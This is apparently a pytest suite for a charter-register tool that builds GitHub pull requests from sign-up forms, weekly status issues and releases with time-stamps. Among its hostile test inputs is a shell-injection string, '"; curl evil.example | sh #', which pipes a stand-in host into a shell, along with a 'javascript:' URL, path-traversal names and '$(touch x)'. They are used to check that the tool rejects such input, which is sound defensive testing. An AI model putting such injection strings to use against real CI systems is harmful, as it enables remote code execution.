"""`charter ci sign-up`, `weekly`, `release`: what comes of a form, of a Monday, of a wish for a version."""

from __future__ import annotations

import re
import shutil
from html import unescape

import pytest

from builders import (
    FIRST,
    make_charter,
    make_report,
    make_signatory,
    release_draft,
    write_charter,
    write_note,
    write_signatory,
)
from charterpress.cli import main
from charterpress.model import Interval, Reporting
from charterpress.text.interface import gettext, use_language
from commands import commit_all, edit_file, git, init_repository
from fake_github import BOT
from loops import in_thread
from recorded import changed, payload
from tiers import every_fourth
from time_stamping import Authority, known_authorities, open_desks, stamping_world

ISSUE = "issues.opened"
SHELL = '"; curl evil.example | sh #'


class Signing:
    """A checkout of the default branch, as the workflow has it, and forms that come in."""

    def __init__(self, released, folder, capsys, github):
        self.folder, self.capsys, self.github = folder / "repo", capsys, github
        shutil.copytree(released, self.folder)
        self.base = git("rev-parse", "HEAD", folder=self.folder)
        self.origin = folder / "origin"
        git("clone", "--quiet", "--bare", str(released), str(self.origin))
        git("remote", "add", "origin", str(self.origin), folder=self.folder)

    def answer(self, body=None, **values):
        """The answer to a form, in a checkout of its own; '' for none. Nothing but the branch changes."""
        git("checkout", "--quiet", "--force", "--detach", self.base, folder=self.folder)
        event = self.folder.parent / "event.json"
        event.write_bytes(changed(ISSUE, **({} if body is None else {"issue__body": body}), **values))
        assert main(["ci", "sign-up", "--event", str(event)]) == 0
        assert self.capsys.readouterr().err == ""
        said = [each for place, each in self.github.told if place == "POST issues/31/comments"]
        return said[-1]["body"].partition("<!-- charter: sign-up -->\n")[2] if said else ""

    @property
    def proposed(self):
        """The files that each branch at the host adds or changes."""
        lines = git("for-each-ref", "--format=%(refname:short)", "refs/heads/sign-up", folder=self.origin)
        return {
            name: git("diff", "--name-only", self.base, name, folder=self.origin).splitlines()
            for name in lines.splitlines()
        }


@pytest.fixture
def signing(released, tmp_path, monkeypatch, capsys, github):
    made = Signing(released, tmp_path, capsys, github)
    monkeypatch.chdir(made.folder)
    return made


REPORT = "\n\n".join(
    f"### {label}\n\n{words}"
    for label, words in {
        "Name of your organisation": "Mole club",
        "Your page on the list": "_No response_",
        "First day of the period": "1 December 2024",
        "Last day of the period": "30 November 2025",
        "Principle by principle": 'moorings-first = kept; "; curl evil.example | sh #',
    }.items()
)


@pytest.fixture
def reporting(tmp_path, monkeypatch, capsys, github):
    """The same for a charter that asks for reports."""
    repo = tmp_path / "asking"
    repo.mkdir()
    every = Reporting(every=Interval(months=12))
    root = write_charter(repo, make_charter(reporting=every))
    release_draft(root, first=True)
    write_signatory(root, make_signatory("quay-club-1"))
    write_signatory(root, make_signatory("mole-club"))
    init_repository(repo)
    made = Signing(repo, tmp_path, capsys, github)
    monkeypatch.chdir(made.folder)
    return made


FORM = payload(ISSUE)["issue"]["body"]


def answer(label, value):
    """The recorded form with another answer."""
    return re.sub(rf"(?<=### {label}\n\n).*", lambda _: value, FORM)


QUAY = "sign-up/31-quay-club"
QUAY_FILES = {QUAY: ["charter/signatories/quay-club.yml"]}


def pull(number, branch, owner="harbour-partners"):
    """A pull request, as the host lists it."""
    head = {"ref": branch, "label": f"{owner}:{branch}", "repo": {"full_name": f"{owner}/charter"}}
    return {"number": number, "head": head}


def test_a_form_becomes_a_proposal_with_one_new_file_and_its_status(signing):
    said = signing.answer(FORM.replace("\n", "\r\n"))
    assert said.startswith("Thank you for signing! An entry for **Quay Club** was made of your form:\n")
    assert signing.proposed == QUAY_FILES
    head = git("rev-parse", QUAY, folder=signing.origin)
    told = signing.github.told
    assert [place for place, _ in told] == [
        "POST pulls",
        *(f"POST statuses/{head}" for _ in range(2)),
        "POST issues/77/comments",
        "POST issues/31/comments",
    ]
    assert told[0][1] == {
        "title": "Sign-up: issue 31",
        "head": QUAY,
        "base": "main",
        "body": f"{said}\nCloses #31.\n",
    }
    assert told[2][1]["state"] == "success"
    assert "1 organisation would join the register: Quay Club." in told[3][1]["body"]


def test_the_answer_is_in_the_language_of_the_form_or_else_the_charter(signing):
    """The environment of the workflow is in English, and so is what maintainers read."""
    settings = signing.folder / "charter/charter.yml"
    text = settings.read_text(encoding="utf-8")
    for asked, charter, answered in (
        ("ar", "en-GB", "شكرًا لتوقيعكم"),
        ("en", "cy", "Thank you for signing"),
        ("", "cy-GB", "Diolch"),
    ):
        settings.write_text(f"{text}language: {charter}\n", encoding="utf-8")
        commit_all(signing.folder)
        signing.base = git("rev-parse", "HEAD", folder=signing.folder)
        with use_language(asked or "en"):
            labels = [gettext(each) for each in ("Name of your organisation", "Where you work")]
        said = signing.answer("\n\n".join(f"### {label if asked else '?'}\n\nX" for label in labels))
        assert said.startswith(answered), (asked, charter)


def test_an_entry_is_proposed_in_the_words_of_maintainers(signing):
    with use_language("cy"):
        welsh = re.sub(r"(?<=### ).*", lambda label: gettext(label[0]), FORM)
        thanks = gettext("Thank you for signing! An entry for **{name}** was made of your form:")
    assert welsh != FORM
    assert signing.answer(welsh).startswith(thanks.format(name="Quay Club"))
    title, body = (signing.github.told[0][1][key] for key in ("title", "body"))
    assert title == "Sign-up: issue 31"
    assert body.startswith("Thank you for signing! An entry for **Quay Club**")


def test_a_report_becomes_a_proposal_that_changes_one_entry(reporting):
    """And one that names the page of another organisation proposes nothing."""
    text = reporting.answer(REPORT)
    assert "Mole club** was changed as you ask: it has your report." in text
    assert "a person makes sure that this comes from the organisation itself" in text
    assert reporting.proposed == {"sign-up/31-mole-club": ["charter/signatories/mole-club.yml"]}
    (proposal,) = [each for place, each in reporting.github.told if place == "POST pulls"]
    assert proposal["title"] == "Change to an entry: issue 31"
    planted = REPORT.replace(
        "### Your page on the list\n\n_No response_", "### Your page on the list\n\nquay-club-1"
    )
    assert planted != REPORT
    assert "A person will read this, because one thing is not clear" in reporting.answer(planted)
    assert "quay-club-1" not in str(reporting.proposed)


def test_words_of_strangers_reach_no_shell_and_no_title(signing):
    said = signing.answer(f"$(touch x)\n{SHELL}", issue__title=SHELL)
    assert said.startswith("Thank you for writing. No entry could be made of this yet:")
    assert (signing.proposed, (signing.folder / "x").exists()) == ({}, False)


def test_a_form_is_known_by_its_label_or_its_questions(signing):
    """It may have been sent before the label was made; and what is neither is somebody's own issue."""
    assert signing.answer("Hello", issue__labels=[]) == ""
    assert signing.github.told == []
    assert signing.answer(issue__state="closed") == ""
    assert signing.github.asked == []
    for label in ("sign-up", "question"):  # any: its run takes the place of one that waits for an edited form
        assert signing.answer(action="labeled", label={"name": label}).startswith("Thank you")
        signing.github.holds()
    assert signing.answer(issue__labels=[]).startswith("Thank you")
    assert signing.github.told[0] == ("POST issues/31/labels", {"labels": ["sign-up"]})


def test_an_edited_form_ends_the_approvals_and_an_unchanged_one_does_not(signing):
    signing.answer()
    reviews = [
        {"id": 1, "state": "APPROVED"},
        {"id": 2, "state": "COMMENTED"},
        {"id": 3, "state": "APPROVED"},
    ]
    lists = {"branches": [QUAY], "pulls": [pull(12, QUAY)], "pulls__12__reviews": reviews}
    signing.github.holds(**lists)
    signing.answer(action="edited")
    assert [place for place, _ in signing.github.told] == ["POST issues/31/comments"]
    signing.github.holds(**lists)
    signing.answer(answer("Role that signs", "Treasurer"), action="edited")
    places = [place for place, _ in signing.github.told]
    assert places[:3] == [*(f"PUT pulls/12/reviews/{at}/dismissals" for at in (1, 3)), "PATCH pulls/12"]
    assert "role: Treasurer" in git(
        "show", f"{QUAY}:charter/signatories/quay-club.yml", folder=signing.origin
    )


def test_another_organisation_is_another_proposal(signing):
    """What was approved under the first name is closed, and not replaced."""
    signing.answer()
    others = [QUAY, "sign-up/310-tide-club"]
    signing.github.holds(branches=others, pulls=[pull(12, QUAY), pull(13, others[1])])
    signing.answer(answer("Name of your organisation", "Pier Club"), action="edited")
    assert [place for place, _ in signing.github.told][:4] == [
        "POST issues/12/comments",
        "PATCH pulls/12",
        f"DELETE git/refs/heads/{QUAY}",
        "POST pulls",
    ]
    assert signing.github.body("POST pulls")["head"] == "sign-up/31-pier-club"
    assert signing.proposed["sign-up/31-pier-club"] == ["charter/signatories/pier-club.yml"]


def test_a_branch_of_the_same_name_in_a_fork_is_not_ours(signing):
    signing.answer()
    signing.github.holds(branches=[QUAY], pulls=[pull(66, QUAY, "eve")])
    signing.answer(answer("Role that signs", "Treasurer"), action="edited")
    assert signing.github.body("POST pulls")["head"] == QUAY
    assert not any(re.search(r"/66\b", place) for _, place, _ in signing.github.asked)


def test_a_form_that_no_longer_holds_takes_its_proposal_back(signing):
    signing.answer()
    signing.github.holds(branches=[QUAY], pulls=[pull(12, QUAY)])
    said = signing.answer(answer("Your website", "_No response_"), action="edited")
    assert "No entry for **Quay Club** could be made of it yet." in said
    assert [place for place, _ in signing.github.told][:3] == [
        "POST issues/12/comments",
        "PATCH pulls/12",
        f"DELETE git/refs/heads/{QUAY}",
    ]


def test_a_path_for_a_name_leads_nowhere(signing):
    signing.answer(answer("Name of your organisation", "../../.github/workflows/x"))
    assert signing.proposed == {
        "sign-up/31-github-workflows-x": ["charter/signatories/github-workflows-x.yml"]
    }


BAD_FORMS = {
    "empty": ("", "There is nothing in it"),
    "another text": ("Hello @everyone, closes #1", "It has none of the questions"),
    "no name": (answer("Name of your organisation", "_No response_"), "Name of your organisation"),
    "a kind of their own": (answer("Kind of organisation", "pirates"), "Kind of organisation"),
    "a site that runs": (answer("Your website", "javascript:alert(1)"), "Your website"),
    "a site with a password": (answer("Your website", "https://a:b@x.example/"), "Your website"),
    "a version that nobody made": (answer("Version you sign", "9.9.9"), "Version you sign"),
    "a path for a version": (answer("Version you sign", "../1.0.0"), "Version you sign"),
    "a day that is none": (answer("Date it was agreed", "2024-02-31"), "Date it was"),
    "a day to come": (answer("Date it was agreed", "2999-01-01"), "Date it was"),
    "two days in one": (answer("Date it was agreed", "03/04/2026"), "Date it was"),
    "a letter's address": (answer("Role that signs", "chair@quay-club.example"), "Role that signs"),
    "one question twice": (FORM + "\n### Your website\n\nhttps://evil.example/\n", "Your website"),
    "other words in yaml": (
        answer("In your own words", "x\n\nwithdrawn: {date: 2026-01-01}\x07"),
        "own words",
    ),
    "a name that hides": (answer("Name of your organisation", "Quay\u202eClub"), "Name of your organisation"),
    "a long name": (answer("Name of your organisation", "x" * 5000), "Name of your organisation"),
}


@pytest.mark.parametrize("case", every_fourth(BAD_FORMS))
def test_a_hostile_form_is_answered_by_name_and_proposes_nothing(signing, case):
    body, label = BAD_FORMS[case]
    said = signing.answer(body)
    assert [place for place, _ in signing.github.told] == ["POST issues/31/comments"]
    assert signing.proposed == {}
    assert label in said
    assert not re.search(r"(?<!\\)://(?!quay|x)|@\w|(?<!\w)#\d|<img|<script", said)


def test_a_question_of_their_own_is_passed_over_and_said(signing):
    said = signing.answer(FORM + "\n### Shoe size\n\n44 @everyone\n")
    assert "These lines were not read" in said
    assert not re.search(r"(?<!\\)@\w", said)
    (branch,) = signing.proposed
    path = f"{branch}:{signing.proposed[branch][0]}"
    assert "44" not in git("show", path, folder=signing.origin)


def test_the_weekly_issue_tells_how_the_register_stands(tmp_path, monkeypatch, github):
    root = write_charter(tmp_path)
    release_draft(root, first=True)
    write_signatory(root, make_signatory("quay-club"))
    write_signatory(root, make_signatory("pirates", kind="pirates"))
    monkeypatch.setenv("SITE_URL", "https://charter.org/")
    assert in_thread(lambda: main(["--source", str(root), "ci", "weekly"])) == 0
    said = github.body("POST issues")
    assert said["title"] == "The register this week"
    assert said["body"].startswith(
        "<!-- charter: this week -->\n## The register\n\n- 1: signed the current version\n"
    )
    assert "pirates" in said["body"].split("## Left out of the register")[1]
    assert "## Their pages\n\nNo organisation named a page to ask for.\n" in said["body"]
    ours = {"id": 5, "number": 3, "user": BOT, "body": "<!-- charter: this week -->\nx"}
    github.holds(issues=[{**ours, "number": 2, "user": {"login": "eve", "type": "User"}}, ours])
    assert in_thread(lambda: main(["--source", str(root), "ci", "weekly"])) == 0
    assert [place for place, _ in github.told] == ["PATCH issues/3"]


def test_the_weekly_issue_tells_whose_report_is_due(tmp_path, monkeypatch, github):
    """By the version that they signed; a name is words there, and no mention of anybody."""
    root = write_charter(tmp_path, make_charter(reporting=Reporting(every=Interval(months=12))))
    release_draft(root, first=True, date="2020-01-01")
    report = make_report(start="2020-01-02", end="2021-01-01")
    for slug, changes in (("home-boats", {"name": "@Home Boats"}), ("reported", {"reports": (report,)})):
        write_signatory(root, make_signatory(slug, ("1.0.0", "2020-01-02"), **changes))
    monkeypatch.setenv("SITE_URL", "https://charter.org/")
    assert in_thread(lambda: main(["--source", str(root), "ci", "weekly"])) == 0
    part = github.body("POST issues")["body"].split("## Reports\n\n")[1].split("\n\n## ")[0]
    assert re.sub(r"[\\\u200b]", "", unescape(part)) == (
        "- overdue: 1. Reported (2022-01-02)\n- no report yet: 1. @Home Boats (2021-01-02)\n\n"
        "Write to them with “charter letters --to report-due”."
    )
    assert not re.search(r"(?<!\\)@\w", part)


def test_a_version_is_proposed_with_its_status(signing, tmp_path, capsys):
    event = tmp_path / "event.json"
    edit_file(signing.folder / "charter" / FIRST, "every day.", "every hour.")
    write_note(signing.folder / "charter", "moorings-first")
    commit_all(signing.folder)
    event.write_bytes(changed("workflow_dispatch", inputs__date="2025-03-01"))
    assert main(["ci", "release", "--event", str(event)]) == 0
    assert "Released version 2.0.0" in capsys.readouterr().out
    told = dict(signing.github.told)
    assert told["POST pulls"]["head"] == "release/2.0.0"
    head = git("rev-parse", "release/2.0.0", folder=signing.origin)
    assert told[f"POST statuses/{head}"]["state"] == "success"
    assert "It makes version 2.0.0" in told["POST issues/77/comments"]["body"]
    for values in ({"inputs__kind": SHELL}, {"inputs__date": SHELL}):
        signing.github.holds()
        event.write_bytes(changed("workflow_dispatch", **values))
        assert main(["ci", "release", "--event", str(event)]) == 2
        assert signing.github.told == []


# --- Time-stamps ---------------------------------------------------------------------------------------


NORTH, SOUTH = Authority("North"), Authority("South")


@pytest.fixture
def world(monkeypatch):
    """An internet on this computer, which `charter stamp` asks."""
    with stamping_world(monkeypatch) as internet:
        yield internet


@pytest.fixture
def releasing(signing, tmp_path, monkeypatch):
    """A repository at a forge with a change to release, and two authorities that count."""
    known_authorities(monkeypatch, tmp_path / "authorities.toml", NORTH, SOUTH, packaged=True)
    edit_file(signing.folder / "charter" / FIRST, "every day.", "every hour.")
    write_note(signing.folder / "charter", "moorings-first")
    commit_all(signing.folder)
    signing.event = tmp_path / "event.json"
    return signing


def ci_release(releasing, kind):
    releasing.event.write_bytes(changed("workflow_dispatch", inputs__kind=kind, inputs__date="2025-03-01"))
    return in_thread(lambda: main(["ci", "release", "--event", str(releasing.event)]))


def files_of(releasing, branch):
    listed = git("ls-tree", "-r", "--name-only", branch, "charter/releases", folder=releasing.origin)
    return [path.removeprefix("charter/releases/") for path in listed.splitlines()]


def test_a_release_that_a_workflow_makes_has_its_time_stamps(releasing, world, tmp_path, capsys):
    open_desks(world, tmp_path, NORTH, SOUTH)
    assert ci_release(releasing, "next") == 0
    assert "2.0.0: these words existed on" in capsys.readouterr().out
    stems = [f"proofs/{version}.{each.id}.1.tsr" for version in ("1.0.0", "2.0.0") for each in (NORTH, SOUTH)]
    assert set(stems) < set(files_of(releasing, "release/2.0.0"))
    told = dict(releasing.github.told)
    head = git("rev-parse", "release/2.0.0", folder=releasing.origin)
    assert told[f"POST statuses/{head}"]["state"] == "success"


def test_a_release_goes_on_without_what_did_not_come(releasing, world, capsys):
    assert ci_release(releasing, "next") == 0
    assert "North gave no time-stamp of 2.0.0: its host has no address." in capsys.readouterr().out
    assert files_of(releasing, "release/2.0.0") == ["1.0.0.json", "2.0.0.json", "SHA256SUMS"]


def test_time_stamps_alone_are_proposed_too(releasing, world, tmp_path, capsys):
    open_desks(world, tmp_path, NORTH)
    assert ci_release(releasing, "stamp") == 1  # South did not answer
    assert files_of(releasing, "time-stamps") == [
        "1.0.0.json",
        "SHA256SUMS",
        "proofs/1.0.0.north.1.tsr",
        "proofs/north.pem",
    ]
    assert dict(releasing.github.told)["POST pulls"]["title"] == "Add time-stamps"


def test_nothing_is_proposed_where_no_time_stamp_came(releasing, world, capsys):
    assert ci_release(releasing, "stamp") == 1
    assert releasing.github.told == []
